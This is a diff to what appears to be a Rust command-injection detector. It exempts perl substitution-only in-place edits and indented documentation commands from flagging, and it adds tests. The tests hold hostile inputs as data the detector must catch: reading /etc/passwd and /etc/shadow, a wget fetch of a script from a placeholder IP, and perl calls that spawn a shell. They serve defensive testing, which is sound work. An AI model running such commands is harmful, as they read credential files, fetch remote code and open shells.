@@ -1763,6 +1763,9 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
             | "rd"
             | "tree"
     );
+    // `perl -pi -e 's/a/b/g' f`: a program that only substitutes text edits
+    // files in place; it runs nothing.
+    let edit_only = cmd == "perl" && perl_edit_only(b, from, end);
     let mut other_evidence = false;
     let mut opt = false;
     // An interpreter's own options come before its program: after `-m
@@ -1832,7 +1835,7 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
                             "pty" | "http.server" | "simplehttpserver" | "smtpd" | "base64"
                         )
                     });
-                if !after.is_empty() && module_ok {
+                if !after.is_empty() && module_ok && !edit_only {
                     a.strong = true;
                 }
                 if t == "-m" {
@@ -1893,10 +1896,117 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     a.opt_only = opt && !other_evidence && !a.strong && !a.numeric;
     a.sentence = trimmed.ends_with(['.', '!', '?', ',', ':']);
     a.net_only = a.strong && !sensitive && !suid && kind != Kind::Interp;
-    if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish {
+    if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish && !edit_only {
         a.strong = true;
     }
     a
+}
+
+/// Whether the perl arguments from `from` (up to `end`, read on across
+/// `\` line continuations) are options and one quoted program that is a
+/// single `s///` or `y///` without the `e` flag (which would evaluate the
+/// replacement), then file names: `perl -pi -e 's{[ \t]+$}{}' *.c`.
+fn perl_edit_only(b: &[u8], from: usize, end: usize) -> bool {
+    let lim = end.min(from + 400);
+    let mut i = from;
+    let mut program = false;
+    while i < lim {
+        match b[i] {
+            b' ' | b'\t' => i += 1,
+            b'\\' if b.get(i + 1) == Some(&b'\n') => i += 2,
+            b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'$' | b'(' | b'<' | b'>' => break,
+            b'-' if !program => {
+                let s = i;
+                while i < lim && !matches!(b[i], b' ' | b'\t' | b'\n') {
+                    i += 1;
+                }
+                if !b[s + 1..i]
+                    .iter()
+                    .all(|c| c.is_ascii_alphanumeric() || *c == b'.')
+                {
+                    return false;
+                }
+            }
+            q @ (b'\'' | b'"') if !program => {
+                let Some(len) = memchr::memchr(q, &b[i + 1..lim]) else {
+                    return false;
+                };
+                if !substitution_only(&b[i + 1..i + 1 + len]) {
+                    return false;
+                }
+                program = true;
+                i += len + 2;
+            }
+            _ if program => {
+                // A file name or glob.
+                while i < lim && !matches!(b[i], b' ' | b'\t' | b'\n') {
+                    if matches!(b[i], b'\'' | b'"' | b';' | b'|' | b'&' | b'`' | b'$') {
+                        return false;
+                    }
+                    i += 1;
+                }
+            }
+            _ => return false,
+        }
+    }
+    program
+}
+
+/// Whether `p` is one `s///flags` or `y///` (`tr///`) program with any
+/// delimiter, `{}` pairs included, and no `e` flag or backtick.
+fn substitution_only(p: &[u8]) -> bool {
+    let p = p.trim_ascii();
+    let rest = if let Some(r) = p.strip_prefix(b"tr") {
+        r
+    } else if let Some(r) = p.strip_prefix(b"s").or_else(|| p.strip_prefix(b"y")) {
+        r
+    } else {
+        return false;
+    };
+    let Some(&d) = rest.first() else {
+        return false;
+    };
+    if d.is_ascii_alphanumeric() || d.is_ascii_whitespace() || d == b'\\' || p.contains(&b'`') {
+        return false;
+    }
+    let close = match d {
+        b'{' => b'}',
+        b'(' => b')',
+        b'[' => b']',
+        b'<' => b'>',
+        _ => d,
+    };
+    // Delimiters to pass: `/a/b/` has three, `{a}{b}` four.
+    let mut want = if close == d { 3 } else { 4 };
+    let mut k = 0;
+    let mut depth = 0usize;
+    while k < rest.len() && want > 0 {
+        let c = rest[k];
+        if c == b'\\' {
+            k += 2;
+            continue;
+        }
+        if close == d {
+            if c == d {
+                want -= 1;
+            }
+        } else if c == d {
+            if depth == 0 {
+                want -= 1;
+            }
+            depth += 1;
+        } else if c == close {
+            depth = depth.saturating_sub(1);
+            if depth == 0 {
+                want -= 1;
+            }
+        }
+        k += 1;
+    }
+    want == 0
+        && rest[k.min(rest.len())..]
+            .iter()
+            .all(|c| matches!(c, b'g' | b'i' | b'm' | b's' | b'x' | b'r' | b'c' | b'd'))
 }
 
 /// Decides whether a command in a given context with given arguments is an injection.
@@ -3110,7 +3220,13 @@ fn scan_segment(
         if !opens_word
             || (pair_known(b[first], b[first + 1]) && !first_word_settled(b, first, seg_end))
         {
-            check_command(text, first, first, seg_end, Ctx::Start, hits);
+            // A value indented as a code block shows a command.
+            let ctx = if indented(&b[seg_start..first]) {
+                Ctx::Span
+            } else {
+                Ctx::Start
+            };
+            check_command(text, first, first, seg_end, ctx, hits);
         }
         if matches!(b[first], b'(' | b'~') {
             whole_value_forms(text, first, seg_end, hits);
@@ -3177,7 +3293,13 @@ fn scan_segment(
                 }
                 // A line in a code fence shows a command, as a code span
                 // in prose does: only hostile content counts there.
-                let ctx = if in_fence { Ctx::Span } else { Ctx::Weak };
+                // So does an indented line after a line of prose ("Use
+                // this command:\n\tgit ls-files ...").
+                let ctx = if in_fence || indented_after_prose(b, seg_start, i, j, seg_end) {
+                    Ctx::Span
+                } else {
+                    Ctx::Weak
+                };
                 check_command(text, i, j, seg_end, ctx, hits);
                 i = j;
             }
@@ -3359,6 +3481,50 @@ fn scan_segment(
             _ => i += 1,
         }
     }
+}
+
+/// Whether the blanks that open a value indent it as a code block: a tab
+/// or at least two spaces.
+fn indented(lead: &[u8]) -> bool {
+    lead.contains(&b'\t') || lead.len() >= 2
+}
+
+/// Whether the line starting at `next` (after the line break at `nl`) is
+/// indented below a line of prose, as documentation indents the commands
+/// it shows: "Or:\n apt-get install x", "To enable, run\n  systemctl ...".
+/// The line before must end with `:` or read as words, with no shell
+/// syntax; an injected line break follows a value, not a sentence.
+fn indented_after_prose(
+    b: &[u8],
+    seg_start: usize,
+    nl: usize,
+    next: usize,
+    seg_end: usize,
+) -> bool {
+    if next >= seg_end || !matches!(b[next], b' ' | b'\t') {
+        return false;
+    }
+    let lo = seg_start.max(nl.saturating_sub(200));
+    let start = memchr::memrchr(b'\n', &b[lo..nl]).map_or(lo, |p| lo + p + 1);
+    if start == lo && lo > seg_start {
+        return false;
+    }
+    let prev = b[start..nl].trim_ascii();
+    if prev.is_empty()
+        || prev.iter().any(|c| {
+            matches!(
+                c,
+                b';' | b'|' | b'&' | b'$' | b'`' | b'<' | b'>' | b'=' | b'\\'
+            )
+        })
+    {
+        return false;
+    }
+    let words = prev
+        .split(|c| !c.is_ascii_alphabetic())
+        .filter(|w| w.len() >= 2)
+        .count();
+    (prev.ends_with(b":") && words >= 1) || words >= 3
 }
 
 /// Whether the arguments of `curl` from `from` to `end` are one URL and
@@ -3553,10 +3719,10 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
     let lo = seg_start.max(sep.saturating_sub(160));
     let mut k = sep;
     while k > lo
-        && !matches!(
+        && (!matches!(
             b[k - 1],
             b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'(' | b'{'
-        )
+        ) || continued_line(b, k - 1))
     {
         k -= 1;
     }
@@ -3591,7 +3757,8 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
     }
     // Try each candidate command word, leftmost first, among the argument run.
     for ci in start..toks.len() - 1 {
-        let word = toks[ci];
+        // A command line quoted in a sentence: "sped up 'seq 10 | grep .'".
+        let word = toks[ci].trim_start_matches(['\'', '"']);
         if !word.bytes().all(|x| {
             x.is_ascii_lowercase() || x.is_ascii_digit() || matches!(x, b'-' | b'_' | b'.')
         }) {
@@ -3624,6 +3791,11 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
         return shellish || sub || tool_words || linked;
     }
     false
+}
+
+/// Whether the line break at `nl` continues a command line (`\` before it).
+fn continued_line(b: &[u8], nl: usize) -> bool {
+    b[nl] == b'\n' && nl > 0 && b[nl - 1] == b'\\'
 }
 
 /// `${PATH#{}/}`, `${x%%.*}`, `${v//a/b}`: bash parameter expansion with a
@@ -4929,6 +5101,35 @@ mod tests {
                     "{h:?}"
                 );
             }
+        }
+    }
+
+    #[test]
+    fn commands_shown_in_documentation() {
+        for t in [
+            "\tssh-keygen -r hostname -f keyfile -g",
+            "    apt-get build-dep binutils",
+            "Or:\n apt-get install git-daemon-run",
+            "To enable, run\n  systemctl enable --now backup@main.timer",
+            "Performed with: find * -type f | xargs perl -i -p -e 's{[ \\t]+$}{}'",
+            "    perl -pi -e 's/colour/color/g' docs/*.md",
+            "Use this:\n\tgit grep -l -E 'old [^ ]+' \\\n\t  |xargs perl -pi -e 's/a (b)/$1 c/'",
+        ] {
+            assert!(rules(t).is_empty(), "flagged {t:?}: {:?}", rules(t));
+        }
+        for t in [
+            "x\n  cat /etc/passwd",
+            "\tcat /etc/shadow",
+            "\twget http://203.0.113.9/x.sh",
+            "x\nid",
+            "ok\n  id; uname -a",
+            "a; perl -e 'system(\"id\")'",
+            "a; perl -pi -e 's/a/b/e' f",
+            "a | perl -pe 's/a/`id`/'",
+            "a; perl -pi -e 's/x/y/' /etc/passwd",
+            "find . | xargs perl -e 'exec \"sh\"'",
+        ] {
+            assert!(!rules(t).is_empty(), "missed {t:?}");
         }
     }
 
